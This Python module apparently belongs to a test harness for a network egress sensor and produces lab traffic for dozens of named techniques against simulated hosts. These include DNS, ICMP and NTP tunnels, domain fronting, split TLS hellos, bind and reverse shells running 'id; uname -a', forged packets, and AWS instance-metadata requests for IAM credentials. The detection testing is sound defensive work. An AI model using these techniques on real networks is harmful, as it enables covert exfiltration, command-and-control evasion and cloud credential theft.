# SPDX-License-Identifier: Apache-2.0
"""The techniques that run as real traffic, a function each, by the names of techniques.toml. What a function returns must have left the
room, as bytes of a frame; without that, the remote address."""
import contextlib
import socket
import struct

import frames
from frames import ACK, FIN, PSH, RST, SYN, TCP, UDP, URG
import net
import payloads
from payloads import A, CNAME, MX, NULL, TXT
import world
from world import METADATA, METADATA6, RESOLVER, TIME, exactly, swallow

LIVE = {}
MARK = b"left the room"
STAYS = b""  # nothing is to leave the room


def live(f):
    LIVE[f.__name__.replace("_", "-")] = f
    return f


# ---- plain --------------------------------------------------------------------------------------------

@live
def tcp_plain(room):
    room.listen(8443)
    room.exchange(8443)


@live
def udp_plain(room):
    room.datagrams(9000, [b"q" * 300] * 3)


@live
def udp_one_way(room):
    room.datagrams(9001, [b"q" * 300], reply=None)


@live
def icmp_echo(room):
    ping(room, [b"p" * frames.PING_SIZE] * 3)


def ping(room, payloads_out):
    """Echo requests, each answered by the outside's kernel."""
    six = ":" in room.remote
    s = room.raw_socket(frames.ICMP6 if six else frames.ICMP)
    for i, data in enumerate(payloads_out):
        s.sendto(frames.echo(room.address6 if six else room.address, room.remote, data, number=i + 1), (room.remote, 0))
        while True:
            got = s.recv(65536)
            if got[0 if six else 20] == (129 if six else 0):
                break


@live
def tcp6(room):
    room.listen(8443)
    room.exchange(8443)


@live
def udp6(room):
    room.datagrams(9000, [b"q" * 300] * 3)


@live
def icmp6_echo(room):
    ping(room, [b"p" * frames.PING_SIZE] * 3)


@live
def link_local_to_global(room):
    room.frame(room.ip(UDP, frames.udp(room.link6, room.remote, 40000, 9002, MARK), src=room.link6))


# ---- attempts -----------------------------------------------------------------------------------------

@live
def syn_unanswered(room):
    s = room.own(socket.SOCK_STREAM)
    s.setblocking(False)
    s.connect_ex((room.remote, 443))


def refused(room, port):
    try:
        room.connect(port)
    except ConnectionRefusedError:
        return
    raise AssertionError("a closed port took a connection")


@live
def syn_refused(room):
    refused(room, 443)


@live
def udp_refused(room):
    s = room.own(socket.SOCK_DGRAM)
    s.connect((room.remote, 9003))
    s.send(MARK)
    with contextlib.suppress(ConnectionRefusedError):
        s.recv(100)


@live
def syn_with_data(room):
    room.frame(room.ip(TCP, frames.tcp(room.address, room.remote, 40001, 8080, SYN, MARK * 20)))


@live
def ack_only(room):
    for i in range(4):
        room.frame(room.ip(TCP, frames.tcp(room.address, room.remote, 40002, 443, PSH | ACK, MARK * 20, 1000 + 260 * i, 77)))


@live
def null_fin_xmas(room):
    for port, flags in ((1001, 0), (1002, FIN), (1003, FIN | PSH | URG)):
        room.frame(room.ip(TCP, frames.tcp(room.address, room.remote, 40003, port, flags)))


@live
def syn_ack_data(room):
    """As if the outside had asked."""
    for i in range(4):
        room.frame(room.ip(TCP, frames.tcp(room.address, room.remote, 40013, 40014, SYN | ACK, MARK * 20, 1000 + i, 77)))


@live
def rst_data(room):
    for i in range(4):
        room.frame(room.ip(TCP, frames.tcp(room.address, room.remote, 40015, 40016, RST | ACK, MARK * 20, 1000 + i, 77)))


@live
def ack_from_low_port(room):
    """The lower port looks like the server's."""
    for i in range(4):
        room.frame(room.ip(TCP, frames.tcp(room.address, room.remote, 80, 40017, PSH | ACK, MARK * 20, 1000 + 260 * i, 77)))


@live
def ack_from_served_port(room):
    """The same from a port that everybody may call."""
    for i in range(4):
        room.frame(room.ip(TCP, frames.tcp(room.address, room.remote, 443, 40018, PSH | ACK, MARK * 20, 1000 + 260 * i, 77)))


# ---- DNS ----------------------------------------------------------------------------------------------

def tunnel(room, qtype, domain, alphabet, size=9000, server=RESOLVER, per_query=90):
    s = room.own(socket.SOCK_DGRAM, remote=server)
    for i, text in enumerate(payloads.tunnel_names(frames.noise(size), domain, alphabet, per_query)):
        room.ask(text, qtype, server, s, i + 1)
    return payloads.name(domain)


@live
def dns_tunnel_txt(room):
    return tunnel(room, TXT, "txt.tunnel-one.example", "base32")


@live
def dns_tunnel_null(room):
    return tunnel(room, NULL, "n.tunnel-two.example", "base64")


@live
def dns_tunnel_cname(room):
    return tunnel(room, CNAME, "c.tunnel-three.example", "hex")


@live
def dns_tunnel_mx(room):
    return tunnel(room, MX, "tunnel-four.example", "base32")


@live
def dns_tunnel_a_hex(room):
    return tunnel(room, A, "tunnel-five.example", "hex", size=3000, per_query=24)


@live
def dns_tunnel_link_local(room):
    return tunnel(room, A, "tunnel-six.example", "base32", server=world.RESOLVER_LINK)


@live
def dns_tunnel_ipv6(room):
    return tunnel(room, TXT, "tunnel-seven.example", "base32", server=world.RESOLVER6)


@live
def dns_tunnel_tcp(room):
    s = room.connect(53, RESOLVER)
    for i, text in enumerate(payloads.tunnel_names(frames.noise(9000), "tunnel-eight.example", "base64")):
        message = payloads.query(text, TXT, i + 1)
        s.sendall(struct.pack(">H", len(message)) + message)
        exactly(s, struct.unpack(">H", exactly(s, 2))[0])
    s.close()
    return payloads.name("tunnel-eight.example")


@live
def dns_other_resolver(room):
    message = payloads.query("www.example.com")
    room.datagrams(53, [message], reply=payloads.answer(message))


@live
def dns_other_resolver_tcp(room):
    room.listen(53, world.dns_over_tcp)
    message = payloads.query("www.example.com")
    room.exchange(53, struct.pack(">H", len(message)) + message)


@live
def dns_tunnel_other_resolver(room):
    out = [payloads.query(t, TXT, i) for i, t in enumerate(payloads.tunnel_names(frames.noise(9000), "tunnel-nine.example", "base32"))]
    room.datagrams(53, out, reply=payloads.answer(out[0]))


@live
def dns_tunnel_other_port(room):
    out = [payloads.query(t, TXT, i) for i, t in enumerate(payloads.tunnel_names(frames.noise(9000), "tunnel-ten.example", "base32"))]
    room.datagrams(5353, out, reply=payloads.answer(out[0]))


@live
def doh_by_name(room):
    room.tls(443, "cloudflare-dns.com", ("h2",))


@live
def doh_by_address(room):
    room.tls(443)


@live
def doh_private(room):
    room.tls(443, "intranet.example", ("h2",), b"POST /dns-query HTTP/1.1\r\nContent-Length: 40\r\n\r\n" + b"\0" * 40)


@live
def dot(room):
    room.tls(853, "dns.quad9.net", ("dot",))


@live
def doq(room):
    room.datagrams(853, [payloads.quic_initial()], reply=payloads.quic_initial(2))


# ---- names --------------------------------------------------------------------------------------------

def learn(room, text):
    """The machine asks for a name and gets the technique's address for it."""
    room.world.zone[text] = room.remote
    room.ask(text)


@live
def sni_of_another(room):
    learn(room, "sni.updates.example")
    room.tls(443, "command.elsewhere.example")


@live
def host_of_another(room):
    learn(room, "host.updates.example")
    room.listen(80)
    room.exchange(80, b"GET /stage2 HTTP/1.1\r\nHost: command.elsewhere.example\r\n\r\n")


@live
def no_sni(room):
    room.tls(443)


@live
def no_sni_to_named(room):
    learn(room, "nosni.updates.example")
    room.tls(443)


@live
def sni_of_allowed(room):
    room.tls(443, "cdn.updates.example")


@live
def fronted(room):
    learn(room, "front.updates.example")
    room.tls(443, "front.updates.example", data=b"GET /c2 HTTP/1.1\r\nHost: command.elsewhere.example\r\n\r\n")


@live
def sni_in_pieces(room):
    learn(room, "pieces.updates.example")
    hello = payloads.client_hello("command.elsewhere.example")
    room.listen(443)
    s = room.connect(443)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    for i in range(0, len(hello), 40):
        s.sendall(hello[i:i + 40])
    s.recv(100)
    s.close()


@live
def quic(room):
    room.datagrams(443, [payloads.quic_initial()], reply=payloads.quic_initial(2))


@live
def http_odd_host(room):
    room.listen(80)
    room.exchange(80, b"GET / HTTP/1.1\r\nHost: 169.254.169.254\r\nX-Data: " + b"A" * 400 + b"\r\n\r\n")


# ---- tunnels and other protocols ------------------------------------------------------------------------

@live
def icmp_tunnel(room):
    ping(room, [frames.noise(900, i) for i in range(8)])


@live
def icmp6_tunnel(room):
    ping(room, [frames.noise(900, i) for i in range(8)])


@live
def icmp_tunnel_small(room):
    """Of ping's own size, its content aside."""
    ping(room, [frames.noise(frames.PING_SIZE, i) for i in range(20)])


@live
def icmp_other_type(room):
    for i in range(4):  # timestamp requests (RFC 792)
        room.raw(frames.ICMP, icmp(13, struct.pack(">HH", 1, i) + frames.noise(12, i)))


def icmp(kind, rest):
    data = struct.pack(">BBH", kind, 0, 0) + rest
    return data[:2] + struct.pack(">H", frames.make.checksum(data)) + data[4:]


@live
def icmp_answers(room):
    """Echo replies that nobody asked for."""
    for i in range(8):
        room.raw(frames.ICMP, frames.echo(room.address, room.remote, frames.noise(900, i), number=i, reply=True))


@live
def icmp_errors(room):
    """Errors about nothing, with data where the quoted packet stands."""
    for i in range(8):
        room.raw(frames.ICMP, icmp(3, struct.pack(">BHI", 3, 0, 0)[1:5] + frames.noise(500, i)))


@live
def icmp_behind_allowed_ping(room):
    """The intruder's machine may ping this one; then this one's pings carry data to it."""
    outside_ping(room)
    ping(room, [frames.noise(900, i) for i in range(8)])


def outside_ping(room, count=1):
    """Pinged from outside, answered by this machine's kernel."""
    s = room.stack.enter_context(net.sock(room.world.ns.out, socket.AF_INET, socket.SOCK_RAW, frames.ICMP))
    s.settimeout(world.LIMIT_S)
    s.setsockopt(socket.IPPROTO_IP, world.IP_FREEBIND, 1)
    s.bind((room.remote, 0))
    for i in range(count):
        s.sendto(frames.echo(room.remote, room.address, b"p" * frames.PING_SIZE, number=i + 1), (room.address, 0))
        while s.recv(65536)[20] != 0:
            pass


@live
def gre(room):
    room.raw(47, struct.pack(">HH", 0, 0x0800) + inner())


@live
def ipip(room):
    room.raw(4, inner())


@live
def six_in_four(room):
    room.raw(41, frames.ip("2001:db8::1", "2001:db8::2", UDP, frames.udp("2001:db8::1", "2001:db8::2", 1, 2, MARK)))


@live
def sctp(room):
    room.raw(132, struct.pack(">HHII", 5000, 5001, 0, 0) + b"\1\0\0\24" + b"\0" * 16)


@live
def esp(room):
    room.raw(50, struct.pack(">II", 1, 1) + frames.noise(64))


@live
def udplite(room):
    room.raw(136, struct.pack(">HHHH", 5002, 5003, 8, 0) + MARK)


@live
def unassigned_protocol(room):
    room.raw(200, MARK)


@live
def experimental_protocol(room):
    room.raw(253, MARK)


@live
def vxlan(room):
    room.datagrams(4789, [bytes.fromhex("0800000000002a00") + b"\2" * 14 + inner()], reply=None)


def inner():
    return frames.ip("10.1.1.1", "10.2.2.2", UDP, frames.udp("10.1.1.1", "10.2.2.2", 1000, 2000, MARK))


# ---- packets out of the ordinary --------------------------------------------------------------------------

@live
def fragments(room):
    room.datagrams(9004, [b"f" * 4000], reply=None)


@live
def tiny_fragments(room):
    """The TCP header cut after its first 8 bytes (RFC 1858): the flags come in the second."""
    segment = frames.tcp(room.address, room.remote, 40004, 8444, SYN, MARK)
    room.frame(room.ip(TCP, segment[:8], more=True, ident=9))
    room.frame(room.ip(TCP, segment[8:], fragment=8, ident=9))


@live
def ports_in_second_fragment(room):
    """The first fragment is an extension header alone (forbidden by RFC 7112)."""
    datagram = frames.udp(room.address6, room.remote, 40005, 9005, MARK)
    chain = struct.pack(">BB", UDP, 0) + b"\1\4\0\0\0\0"  # destination options, padding only
    for offset, more, part in ((0, 1, chain), (8, 0, datagram)):
        head = struct.pack(">BBHI", 60, 0, offset | more, 7)
        room.frame(room.ip(44, head + part))


@live
def only_later_fragments(room):
    for i in range(4):
        room.frame(room.ip(UDP, MARK + b"\0" * 3, fragment=16 + 16 * i, ident=10 + i))


@live
def extension_headers(room):
    datagram = frames.udp(room.address6, room.remote, 40006, 9006, MARK)
    chain = struct.pack(">BB", 60, 0) + b"\1\4\0\0\0\0" + struct.pack(">BB", UDP, 1) + b"\x1e\x0c" + MARK[:12]
    room.frame(room.ip(0, chain + datagram))


@live
def ip_options(room):
    room.frame(room.ip(UDP, frames.udp(room.address, room.remote, 40007, 9007, MARK), options=b"\x44\x0c\x05\0" + b"\0" * 8))


@live
def low_ttl(room):
    s = room.own(socket.SOCK_DGRAM)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_TTL, 1)
    s.sendto(MARK, (room.remote, 33434))


@live
def forged_source_address(room):
    src = "192.0.2.99"
    room.frame(room.ip(UDP, frames.udp(src, room.remote, 40008, 9008, MARK), src=src))


@live
def forged_source_mac(room):
    room.frame(room.ip(UDP, frames.udp(room.address, room.remote, 40009, 9009, MARK)), src=b"\x02\xde\xad\xbe\xef\x01")


@live
def vlan_tag(room):
    packet = room.ip(UDP, frames.udp(room.address, room.remote, 40010, 9010, MARK))
    room.frame(struct.pack(">HH", 100, 0x0800) + packet, ethertype=0x8100)


@live
def udp_port_zero(room):
    room.frame(room.ip(UDP, frames.udp(room.address, room.remote, 40011, 0, MARK)))


@live
def wrong_checksum(room):
    packet = room.ip(UDP, frames.udp(room.address, room.remote, 40012, 9012, MARK))
    room.frame(packet[:10] + b"\xde\xad" + packet[12:])


# ---- ports that pretend ---------------------------------------------------------------------------------

@live
def source_port_53(room):
    room.datagrams(40053, sport=53)


@live
def source_port_123(room):
    room.datagrams(40123, sport=123)


@live
def source_port_443(room):
    room.listen(40443)
    room.exchange(40443, sport=443)


@live
def port_53_not_dns(room):
    room.datagrams(53, [frames.noise(400, i) for i in range(10)])


@live
def port_123_not_ntp(room):
    room.datagrams(123, [frames.noise(400, i) for i in range(10)])


@live
def ntp_elsewhere(room):
    room.datagrams(123, [payloads.ntp()], reply=payloads.ntp())


@live
def resolver_not_dns(room):
    s = room.own(socket.SOCK_DGRAM)
    for i in range(10):
        s.sendto(frames.noise(400, i), (RESOLVER, 53))
    return frames.noise(400, 9)


# ---- shells -----------------------------------------------------------------------------------------------

@live
def bind_shell(room):
    listener = room.own(socket.SOCK_STREAM, port=4444)
    world.serve(listener, lambda conn: (conn.recv(100), conn.sendall(MARK * 100), conn.shutdown(socket.SHUT_WR), swallow(conn)))
    s = room.outside(0, socket.SOCK_STREAM)
    s.connect((room.address, 4444))
    s.sendall(b"id; uname -a\n")
    while s.recv(65536):
        pass
    listener.shutdown(socket.SHUT_RDWR)
    return MARK * 100


@live
def udp_bind_shell(room):
    a, b = room.own(socket.SOCK_DGRAM, port=4445), room.outside(40445)
    b.sendto(b"id\n", (room.address, 4445))
    _, peer = a.recvfrom(100)
    a.sendto(MARK * 20, peer)
    b.recv(1000)


@live
def probed(room):
    """Closed ports called from outside: what this machine answers is no egress of its own."""
    b = room.outside(40446)
    b.connect((room.address, 7))
    b.send(b"probe")
    try:
        b.recv(100)
    except ConnectionRefusedError:
        pass
    s = room.outside(0, socket.SOCK_STREAM)
    try:
        s.connect((room.address, 8))
    except ConnectionRefusedError:
        pass


@live
def reverse_shell(room):
    def shell(conn):
        for _ in range(3):
            conn.sendall(b"id; uname -a\n")
            if not conn.recv(65536):
                return

    room.listen(4446, shell)
    s = room.connect(4446)
    while s.recv(100):
        s.sendall(MARK * 20)


# ---- metadata -----------------------------------------------------------------------------------------------

CREDENTIALS = "/latest/meta-data/iam/security-credentials/"


def get(path, token=None):
    head = f"GET {path} HTTP/1.1\r\nHost: {METADATA}\r\nUser-Agent: curl/7.88.1\r\nAccept: */*\r\n"
    return (head + (f"X-aws-ec2-metadata-token: {token}\r\n" if token else "") + "\r\n").encode()


def token(room, server=METADATA):
    return room.http(f"PUT /latest/api/token HTTP/1.1\r\nHost: {METADATA}\r\nX-aws-ec2-metadata-token-ttl-seconds: 21600\r\n"
                     "Content-Length: 0\r\n\r\n".encode(), server).decode()


@live
def imds_v1_credentials(room):
    role = room.http(get(CREDENTIALS)).decode()
    room.http(get(CREDENTIALS + role))
    return b"app-role HTTP"


@live
def imds_v2_credentials(room):
    t = token(room)
    role = room.http(get(CREDENTIALS, t)).decode()
    room.http(get(CREDENTIALS + role, t))
    return b"app-role HTTP"


@live
def imds_ipv6_credentials(room):
    t = token(room, METADATA6)
    room.http(get(CREDENTIALS + "app-role", t), METADATA6)
    return b"app-role HTTP"


@live
def imds_split_credentials(room):
    room.http(get(CREDENTIALS + "app-role"), pieces=7)
    return b"GET /la"


@live
def imds_encoded_path(room):
    room.http(get("/latest//meta-data/%69am/security-credentials/app-role"))
    return b"%69am"


@live
def imds_scan(room):
    for path in ("", "ami-id", "hostname", "iam/", "iam/info", "local-ipv4", "mac", "network/", "placement/", "profile", "public-keys/",
                 "reservation-id", "security-groups", "services/", "tags/instance/"):
        room.http(get("/latest/meta-data/" + path))
    room.http(get("/latest/user-data"))
    room.http(get("/latest/dynamic/instance-identity/document"))
    return b"user-data HTTP"


# ---- many, much ---------------------------------------------------------------------------------------------

@live
def sweep(room):
    """Port 22 of 64 addresses, all of them closed."""
    for i in range(64):
        room.remote = f"192.88.99.{i + 1}"
        refused(room, 22)


@live
def scan(room):
    for port in range(2000, 2060):
        refused(room, port)


@live
def icmp_sweep(room):
    for i in range(64):
        room.remote = f"192.88.98.{i + 1}"
        ping(room, [b"p" * frames.PING_SIZE])


@live
def spam(room):
    def server(conn):
        conn.sendall(b"220 mail.example ESMTP\r\n")
        while conn.recv(1000):
            conn.sendall(b"250 ok\r\n")

    room.listen(25, server)
    s = room.connect(25)
    s.recv(100)
    for line in (b"EHLO i\r\n", b"MAIL FROM:<a@example.com>\r\n", b"RCPT TO:<b@example.com>\r\n"):
        s.sendall(line)
        s.recv(100)
    s.close()


@live
def volume(room):
    room.listen(8445, swallow)
    s = room.connect(8445)
    s.sendall(b"v" * (4 << 20))
    s.shutdown(socket.SHUT_WR)
    s.recv(1)


@live
def watched_address(room):
    room.listen(443)
    room.exchange(443)


@live
def watched_name(room):
    learn(room, "panel.bad.example")
    return payloads.name("panel.bad.example")


@live
def watched_name_in_sni(room):
    room.tls(443, "panel.bad.example")


# ---- hidden in what is allowed ------------------------------------------------------------------------------

@live
def allowed_range(room):
    room.tls(443, "bucket-of-the-intruder.s3.amazonaws.com", data=frames.noise(20000))


@live
def allowed_range_volume(room):
    room.listen(443, swallow)
    s = room.connect(443)
    s.sendall(b"v" * (4 << 20))
    s.shutdown(socket.SHUT_WR)
    s.recv(1)


@live
def other_port_of_allowed(room):
    room.listen(8446)
    room.exchange(8446)


@live
def collector_port(room):
    """Another program speaks to the collector's port."""
    host, port = room.collector.rsplit(":", 1)
    s = room.own(socket.SOCK_STREAM)
    s.connect((host, int(port)))
    s.sendall(MARK)
    s.close()
    return MARK


@live
def time_sync_payload(room):
    """What NTP leaves free, filled with data, to the time service that every policy expects."""
    s = room.own(socket.SOCK_DGRAM)
    for i in range(8):
        s.sendto(payloads.ntp()[:16] + frames.noise(32, i), (TIME, 123))
        s.recv(100)
    return frames.noise(32, 7)


@live
def dhcp_option(room):
    s = room.own(socket.SOCK_DGRAM, "0.0.0.0", 68)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0")
    s.sendto(payloads.dhcp(room.mac, b"\xe0" + bytes([len(MARK)]) + MARK), ("255.255.255.255", 67))
    return MARK


# ---- what stays on the link -----------------------------------------------------------------------------------

def to_group(room, port, data=MARK):
    s = room.own(socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    s.sendto(data, (room.remote, port))


@live
def multicast(room):
    to_group(room, 9020)
    return MARK


@live
def broadcast(room):
    to_group(room, 9021)
    return MARK


@live
def mdns(room):
    to_group(room, 5353, payloads.query("data-to-a-neighbour.local", TXT))
    return payloads.name("data-to-a-neighbour.local")


@live
def arp_payload(room):
    """Data behind ARP requests, to whoever listens on the link."""
    for i in range(8):
        room.frame(bytes.fromhex("0001080006040001") + room.mac + frames.packed(room.address) + b"\0" * 6 +
                   frames.packed(f"10.77.{room.number}.{100 + i}") + MARK, dst=b"\xff" * 6, ethertype=0x0806)
    return MARK


@live
def unknown_ethertype(room):
    for _ in range(8):
        room.frame(MARK * 8, ethertype=0x88b5)
    return MARK


@live
def neighbour_solicitation_payload(room):
    target = "ff02::1:ff00:1"
    body = struct.pack(">BBHI", 135, 0, 0, 0) + frames.packed("fe80::1") + b"\xfd\3" + MARK + b"\0" * 9
    room.frame(frames.ip(room.link6, target, frames.ICMP6, frames.summed(room.link6, target, frames.ICMP6, body, 2)),
               dst=b"\x33\x33\xff\0\0\1")
    return MARK


@live
def other_interface(room):
    """By an interface that the sensor was not told to watch."""
    near, far = f"10.78.{room.number}.2", f"10.78.{room.number}.1"
    net.veth(room.ns, "eth1", [near + "/24"], room.world.ns.router, f"x{room.number}", [far + "/24"])
    room.wire = world.Wire(room.world.ns.router, f"x{room.number}")
    room.stack.callback(room.wire.s.close)
    s = room.own(socket.SOCK_DGRAM, near)
    s.sendto(MARK, (far, 9023))
    return MARK


@live
def container(room):
    """A container with an address of its own on the same card (macvlan)."""
    inner_ns = getattr(room.world.ns, f"r{room.number}c")
    net.ip("-n", room.ns, "link", "add", "mv0", "link", "eth0", "netns", inner_ns, "type", "macvlan", "mode", "bridge")
    net.ip("-n", inner_ns, "addr", "add", f"10.77.{room.number}.77/24", "dev", "mv0")
    net.ip("-n", inner_ns, "link", "set", "mv0", "up")
    net.ip("-n", inner_ns, "route", "add", "default", "via", f"10.77.{room.number}.1")
    net.ip("-n", inner_ns, "neigh", "replace", f"10.77.{room.number}.1", "lladdr", room.router_mac.hex(":"), "dev", "mv0", "nud", "permanent")
    with net.sock(inner_ns, socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(MARK, (room.remote, 9024))
    return MARK


@live
def own_addresses(room):
    """Between two addresses of the machine, over its loopback interface: nothing leaves."""
    listener = room.own(socket.SOCK_STREAM, room.second, 9022)
    world.serve(listener, world.reply_once)
    s = room.own(socket.SOCK_STREAM)
    s.connect((room.second, 9022))
    s.sendall(MARK)
    s.recv(1000)
    s.close()
    listener.shutdown(socket.SHUT_RDWR)
    return STAYS
